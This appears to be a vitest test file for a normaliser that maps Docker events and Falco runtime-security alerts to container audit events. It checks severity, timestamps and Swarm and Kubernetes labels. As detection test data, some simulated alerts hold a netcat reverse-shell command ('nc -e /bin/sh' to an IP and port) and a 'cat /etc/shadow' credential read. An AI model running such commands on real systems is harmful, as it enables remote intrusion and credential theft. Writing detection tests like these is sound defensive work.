import { parseAuditEvent, START_ACTIONS, STOP_ACTIONS } from '@audit-trail/schema';
import { describe, expect, it } from 'vitest';
import { makeLine } from './helpers/events.js';
import { CID, normalizer } from './helpers/normalizer.js';

describe('record normaliser: Docker events and Falco alerts', () => {
  it('maps Docker events to CONTAINER_* events with deterministic ids', () => {
    const { run, counters } = normalizer();
    const ev = (action: string, attrs: Record<string, string> = {}) =>
      JSON.stringify({ status: action, id: CID, from: 'nginx:1.25', Type: 'container', Action: action, Actor: { ID: CID, Attributes: { image: 'nginx:1.25', name: 'web', ...attrs } }, scope: 'local', time: 1700000000, timeNano: 1700000000123456789 });
    const start = run('docker.events', { log: ev('start') })[0] as { item: { line: string } };
    const die = run('docker.events', { log: ev('die', { exitCode: '137' }) })[0] as { item: { line: string } };
    const exec = run('docker.events', { log: ev('exec_start: /bin/sh -c id') })[0] as { item: { line: string } };
    expect(run('docker.events', { log: ev('resize') })).toEqual([{ kind: 'non_audit' }]);
    for (const out of [start, die, exec]) expect(parseAuditEvent(out.item.line)).toMatchObject({ ok: true });
    expect(JSON.parse(start.item.line)).toMatchObject({ event_type: 'CONTAINER_START', container: { id: CID, name: 'web' }, event_time: '2023-11-14T22:13:20.123Z' });
    expect(JSON.parse(die.item.line)).toMatchObject({ event_type: 'CONTAINER_STOP', lifecycle: { action: 'die', exit_code: 137 } });
    expect(JSON.parse(exec.item.line)).toMatchObject({ event_type: 'CONTAINER_EXEC', process: { command_line: '/bin/sh -c id' } });
    const viaSwarm = run('swarm.audit.n1.collector.t9', { log: ev('start'), container_id: 'f'.repeat(64), container_name: '/collector' })[0];
    expect(viaSwarm).toMatchObject({ kind: 'sink', container: true, item: { meta: { source_tag: 'swarm.audit.n1.collector.t9', swarm_node: 'n1' } } });
    expect(Object.keys((viaSwarm as { item: { meta: object } }).item.meta).sort()).toEqual(['source_tag', 'swarm_node']);
    const again = run('docker.events', { log: ev('start') })[0] as { item: { line: string } };
    expect(JSON.parse(again.item.line).event_id).toBe(JSON.parse(start.item.line).event_id);
    expect(counters.containerEvents).toBe(0); // counted by the receiver, not the normaliser
  });

  it('maps each Docker lifecycle action to the event type whose schema takes it: create/start/restart a CONTAINER_START, die/stop/kill/destroy/oom a CONTAINER_STOP', () => {
    const { run } = normalizer();
    const ev = (action: string) => JSON.stringify({ Type: 'container', Action: action, Actor: { ID: CID, Attributes: { name: 'web', exitCode: '0', signal: '15' } }, time: 1700000000 });
    for (const [type, actions] of [['CONTAINER_START', START_ACTIONS], ['CONTAINER_STOP', STOP_ACTIONS]] as const) {
      for (const action of actions) {
        const out = run('docker.events', { log: ev(action) })[0] as { item: { line: string } };
        expect([action, parseAuditEvent(out.item.line)]).toMatchObject([action, { ok: true, event: { event_type: type, lifecycle: { action } } }]);
        // exitCode and signal in a start's attributes (a container label of that name: Docker copies labels into
        // every event) stay out of it: a start has not exited, and the schema refuses them on a CONTAINER_START.
        if (type === 'CONTAINER_START') expect([action, JSON.parse(out.item.line).lifecycle]).toEqual([action, { action }]);
        // On a stop, each only on the action the engine writes it on (moby: exitCode on die, signal on
        // kill): a label of that name on the others put an exit code on a stop or a signal on a die.
        const only = action === 'die' ? { exit_code: 0 } : action === 'kill' ? { signal: '15' } : {};
        if (type === 'CONTAINER_STOP') expect([action, JSON.parse(out.item.line).lifecycle]).toEqual([action, { action, ...only }]);
      }
    }
  });

  it("keeps a Swarm task's service and task id from the system labels Docker copies into its events, and leaves out such labels that are no Swarm name rather than reject the event", () => {
    const { run } = normalizer();
    const ev = (action: string, attrs: Record<string, string>) =>
      JSON.stringify({ Type: 'container', Action: action, Actor: { ID: CID, Attributes: { image: 'api:1', name: 'api.1.ydb1tg0bl4rkm3glowcy1pqkd', ...attrs } }, scope: 'local', time: 1700000000, timeNano: 1700000000123456789 });
    const swarm = { 'com.docker.swarm.node.id': 'p0pfv2kqd5eyv8ltsb3lh3h9k', 'com.docker.swarm.service.id': 'k4rfo5hx1xyz', 'com.docker.swarm.service.name': 'api', 'com.docker.swarm.task': '', 'com.docker.swarm.task.id': 'ydb1tg0bl4rkm3glowcy1pqkd', 'com.docker.swarm.task.name': 'api.1.ydb1tg0bl4rkm3glowcy1pqkd' };
    for (const action of ['exec_start: /bin/bash', 'start', 'die']) {
      const out = run('docker.events', { log: ev(action, swarm) })[0] as { item: { line: string } };
      expect(parseAuditEvent(out.item.line)).toMatchObject({ ok: true, event: { runtime: { swarm_service: 'api', swarm_task_id: 'ydb1tg0bl4rkm3glowcy1pqkd' } } });
    }
    // A plain container whose creator set such labels to anything: still an event, without them.
    const odd = run('docker.events', { log: ev('exec_start: bash', { 'com.docker.swarm.service.name': 'x\u001b[2J', 'com.docker.swarm.task.id': 'T'.repeat(100) }) })[0] as { item: { line: string; reject?: string } };
    expect(odd.item.reject).toBeUndefined();
    const parsed = parseAuditEvent(odd.item.line);
    expect(parsed).toMatchObject({ ok: true, event: { event_type: 'CONTAINER_EXEC' } });
    expect((parsed as { event: { runtime?: unknown } }).event.runtime).toBeUndefined();
  });

  it('maps a Docker event whose container has the label log_type=security_audit (Docker copies labels into Actor.Attributes): a label does not make it an audit line, a reject (found by a review)', () => {
    const { run } = normalizer();
    const labelled = JSON.stringify({ status: 'exec_start: bash', id: CID, from: 'nginx:1.25', Type: 'container', Action: 'exec_start: bash', Actor: { ID: CID, Attributes: { image: 'nginx:1.25', name: 'web', log_type: 'security_audit' } }, scope: 'local', time: 1700000000, timeNano: 1700000000123456789 });
    const [out] = run('docker.events', { log: labelled }) as { kind: string; item: { line: string; reject?: string } }[];
    expect(out).toMatchObject({ kind: 'sink', container: true });
    expect(out!.item.reject).toBeUndefined();
    expect(JSON.parse(out!.item.line)).toMatchObject({ event_type: 'CONTAINER_EXEC', process: { command_line: 'bash' } });
    // An audit line whose text looks like a runtime record (a user agent naming a kubelet proxy path) is still the audit line it says it is.
    const audit = JSON.stringify({ ...JSON.parse(makeLine(9)), user_agent: 'curl /api/v1/nodes/n1/proxy/exec/ns/pod/c' });
    expect(audit).toMatch(/\/proxy\/exec\//);
    expect(run('docker.events', { log: audit })).toMatchObject([{ kind: 'sink', item: { line: audit } }]);
  });

  it("raises a Falco event's severity to its alert's priority (Critical 5, Emergency 6), never below the event type's default (a Notice shell stays 3; a Critical alert was stored at 3; found by a probe)", () => {
    const { run } = normalizer();
    const severityOf = (priority: string, rule = 'Terminal shell in container') =>
      JSON.parse(
        (run('falco', { log: JSON.stringify({ hostname: 'node-1', priority, rule, source: 'syscall', time: '2024-05-01T10:00:00.123456789Z', output: 'x', output_fields: { 'container.id': CID.slice(0, 12), 'proc.cmdline': 'bash -i' } }) })[0] as { item: { line: string } }).item.line,
      ).severity;
    expect(['Debug', 'Informational', 'Notice', 'Warning', 'Error', 'Critical', 'Alert', 'Emergency', 'CRITICAL', 'unheard-of'].map((p) => severityOf(p))).toEqual([3, 3, 3, 3, 4, 5, 5, 6, 5, 3]);
    // A privileged container's default is High (4): a Warning does not lower it.
    expect([severityOf('Warning', 'Launch Privileged Container'), severityOf('Critical', 'Launch Privileged Container')]).toEqual([4, 5]);
  });

  it('maps Falco alerts (terminal shell, privileged container) to CONTAINER_* events', () => {
    const { run } = normalizer();
    const alert = (rule: string, fields: Record<string, unknown>) =>
      JSON.stringify({ hostname: 'node-1', priority: 'Notice', rule, source: 'syscall', time: '2024-05-01T10:00:00.123456789Z', output: 'A shell was spawned', output_fields: { 'container.id': CID.slice(0, 12), 'container.name': 'web', 'container.image.repository': 'nginx', ...fields } });
    const shell = run('falco', { log: alert('Terminal shell in container', { 'proc.cmdline': 'bash -i', 'user.name': 'root', 'proc.tty': 34816 }) })[0] as { item: { line: string } };
    const priv = run('falco', { log: alert('Launch Privileged Container', {}) })[0] as { item: { line: string } };
    expect(parseAuditEvent(shell.item.line)).toMatchObject({ ok: true });
    expect(parseAuditEvent(priv.item.line)).toMatchObject({ ok: true });
    expect(JSON.parse(shell.item.line)).toMatchObject({ event_type: 'CONTAINER_EXEC', process: { command_line: 'bash -i', exec_user: 'root', tty: true }, detector: { name: 'falco', rule: 'Terminal shell in container' } });
    // The node it ran on (reports group shells by it), and in Kubernetes the pod and namespace.
    expect(JSON.parse(shell.item.line).runtime).toEqual({ host: 'node-1' });
    const inPod = run('falco', { log: alert('Terminal shell in container', { 'proc.cmdline': 'sh', 'k8s.ns.name': 'payments', 'k8s.pod.name': 'api-6f7d' }) })[0] as { item: { line: string } };
    expect(JSON.parse(inPod.item.line).runtime).toEqual({ host: 'node-1', k8s_namespace: 'payments', k8s_pod: 'api-6f7d' });
    expect(parseAuditEvent(inPod.item.line)).toMatchObject({ ok: true, event: { runtime: { k8s_pod: 'api-6f7d' } } });
    expect(JSON.parse(priv.item.line)).toMatchObject({ event_type: 'CONTAINER_PRIVILEGED', container: { privileged: true } });
    // A rule that names a shell in a privileged container is a shell (the shell reports read CONTAINER_EXEC only); Falco's container.privileged is kept.
    const lineOf = (rule: string, fields: Record<string, unknown>) => JSON.parse((run('falco', { log: alert(rule, fields) })[0] as { item: { line: string } }).item.line);
    expect(lineOf('Shell in privileged container', { 'proc.cmdline': 'bash', 'proc.tty': 34816, 'container.privileged': true })).toMatchObject({ event_type: 'CONTAINER_EXEC', container: { privileged: true }, process: { command_line: 'bash', tty: true } });
    expect(lineOf('Terminal shell in container', { 'proc.cmdline': 'sh', 'container.privileged': false })).toMatchObject({ event_type: 'CONTAINER_EXEC', container: { privileged: false } });
    // The stock launch rule stays a CONTAINER_PRIVILEGED with the entrypoint it names, even when that is a shell on a TTY (docker run -it --privileged).
    expect(lineOf('Launch Privileged Container', { 'proc.cmdline': 'bash', 'proc.tty': 34816 })).toMatchObject({ event_type: 'CONTAINER_PRIVILEGED', container: { privileged: true }, process: { command_line: 'bash' } });
    // Only a process started in the container is an exec (found by a probe: a file read with a TTY counted as a shell opened):
    // by the syscall where the output names it, else by the rule's tags, else by its name.
    expect(run('falco', { log: alert('Read sensitive file untrusted', { 'proc.cmdline': 'cat /etc/shadow', 'proc.tty': 34816, 'evt.type': 'openat' }) })).toEqual([{ kind: 'non_audit' }]);
    expect(run('falco', { log: alert('Read sensitive file untrusted', { 'proc.cmdline': 'cat /etc/shadow', 'proc.tty': 34816 }) })).toEqual([{ kind: 'non_audit' }]);
    expect(lineOf('Netcat Remote Code Execution in Container', { 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444', 'evt.type': 'execve' })).toMatchObject({ event_type: 'CONTAINER_EXEC' });
    expect(lineOf('Drop and execute new binary in container', { 'proc.cmdline': './x', 'evt.type': 'execveat' })).toMatchObject({ event_type: 'CONTAINER_EXEC' });
    expect(run('falco', { log: alert('Terminal shell in container', { 'proc.cmdline': 'bash', 'evt.type': 'openat' }) })).toEqual([{ kind: 'non_audit' }]);
    const tagged = JSON.stringify({ ...JSON.parse(alert('Launch Remote File Copy Tools in Container', { 'proc.cmdline': 'scp a b' })), tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_exfiltration'] });
    expect(JSON.parse((run('falco', { log: tagged })[0] as { item: { line: string } }).item.line)).toMatchObject({ event_type: 'CONTAINER_EXEC' });
    // container.full_id, where the output has it, is the id Docker's events give the same container.
    expect(lineOf('Terminal shell in container', { 'proc.cmdline': 'sh', 'container.full_id': CID })).toMatchObject({ container: { id: CID } });
    expect(lineOf('Terminal shell in container', { 'proc.cmdline': 'sh', 'container.full_id': 'not-hex' })).toMatchObject({ container: { id: CID.slice(0, 12) } });
    // A local privileged rule that names no process run in the container stays CONTAINER_PRIVILEGED.
    expect(lineOf('Privileged container started', { 'proc.cmdline': 'nginx -g daemon off;' })).toMatchObject({ event_type: 'CONTAINER_PRIVILEGED' });
    expect(run('falco', { log: alert('Read sensitive file', { 'container.id': 'host', 'proc.cmdline': 'cat' }) })).toEqual([{ kind: 'non_audit' }]);
    // Without a time no deterministic id (a resend would be a second event): kept as a reject.
    const timeless = JSON.stringify({ ...JSON.parse(alert('Terminal shell in container', { 'proc.cmdline': 'sh' })), time: undefined });
    expect(run('falco', { log: timeless })).toMatchObject([{ kind: 'sink', item: { line: timeless, reject: 'CONTAINER_EVENT_INVALID: Falco alert time undefined is not an RFC 3339 time' } }]);
  });

  it("reads a Falco alert's time as RFC 3339 only: one without a zone is not dated by the aggregator's TZ, nor a day the month lacks rolled over", () => {
    const { run } = normalizer();
    const at = (time: string) =>
      JSON.stringify({ hostname: 'node-1', priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall', time, output: 'A shell was spawned', output_fields: { 'container.id': CID.slice(0, 12), 'proc.cmdline': 'bash -i' } });
    const eventOf = (time: string) => JSON.parse((run('falco', { log: at(time) })[0] as { item: { line: string } }).item.line);
    // Falco's own form, and the same instant with an offset: one time, to the millisecond.
    expect(eventOf('2026-12-01T10:00:00.123456789Z').event_time).toBe('2026-12-01T10:00:00.123Z');
    expect(eventOf('2026-12-01T15:45:00.123+05:45').event_time).toBe('2026-12-01T10:00:00.123Z');
    // Date.parse took the zone-less forms as local time (another TZ, another event_time and event_id:
    // the same alert stored twice), rolled 02-30 over to March, 24:00 to the next day, and "2026" to New Year.
    for (const time of ['2026-12-01T10:00:00', '2026-12-01 10:00:00', '2026-12-01T10:00:00.123', '2026-02-30T10:00:00Z', '2026-12-01T24:00:00Z', '2026', 'Tue, 01 Dec 2026 10:00:00', '12/01/2026']) {
      expect(run('falco', { log: at(time) }), time).toMatchObject([{ kind: 'sink', item: { reject: `CONTAINER_EVENT_INVALID: Falco alert time ${JSON.stringify(time)} is not an RFC 3339 time` } }]);
    }
  });

  it("maps a Falco alert an agent parsed to top level also when it has Falco's own `message` member (json_include_message_property): that text is no line to read (found by a probe: the shell was dropped as non-audit)", () => {
    const { run } = normalizer();
    const alert = { hostname: 'node-1', priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall', time: '2024-05-01T10:00:00.123456789Z', output: '10:00:00.123456789: Notice A shell was spawned in a container (user=root command=bash -i)', message: 'A shell was spawned in a container (user=root command=bash -i)', tags: ['container', 'shell', 'mitre_execution'], output_fields: { 'container.id': CID.slice(0, 12), 'proc.cmdline': 'bash -i', 'user.name': 'root', 'evt.type': 'execve' } };
    const [out] = run('falco', alert) as { kind: string; item: { line: string; reject?: string } }[];
    expect(out).toMatchObject({ kind: 'sink', container: true });
    expect(out!.item.reject).toBeUndefined();
    expect(parseAuditEvent(out!.item.line)).toMatchObject({ ok: true, event: { event_type: 'CONTAINER_EXEC', process: { command_line: 'bash -i', exec_user: 'root' } } });
    // A syslog record's `message` is still its line, whatever it holds.
    const line = JSON.stringify(alert);
    const [relayed] = run('syslog.falco', { pri: '13', host: 'node-1', ident: 'falco', message: line }) as { item: { line: string } }[];
    expect(JSON.parse(relayed!.item.line)).toMatchObject({ event_type: 'CONTAINER_EXEC' });
  });

  it("keeps a Falco shell whose user name (from the image's /etc/passwd) is longer than exec_user allows: the name cut to 256, not the alert made a reject the shell reports never read (found by a probe)", () => {
    const { run } = normalizer();
    const alert = (user: string) => ({ hostname: 'node-1', priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall', time: '2024-05-01T10:00:00.123456789Z', output: 'A shell was spawned', tags: ['container', 'shell'], output_fields: { 'container.id': CID.slice(0, 12), 'proc.cmdline': 'bash -i', 'user.name': user, 'evt.type': 'execve' } });
    const [long] = run('falco', { log: JSON.stringify(alert('a'.repeat(300))) }) as { item: { line: string; reject?: string } }[];
    expect(long!.item.reject).toBeUndefined();
    expect(parseAuditEvent(long!.item.line)).toMatchObject({ ok: true, event: { event_type: 'CONTAINER_EXEC', process: { exec_user: 'a'.repeat(256), command_line: 'bash -i' } } });
    // A line separator Falco's sanitising lets through is shown, not a reason to refuse.
    const [odd] = run('falco', { log: JSON.stringify(alert('ro\u2028ot')) }) as { item: { line: string; reject?: string } }[];
    expect(parseAuditEvent(odd!.item.line)).toMatchObject({ ok: true, event: { process: { exec_user: 'ro\\u2028ot' } } });
  });
});
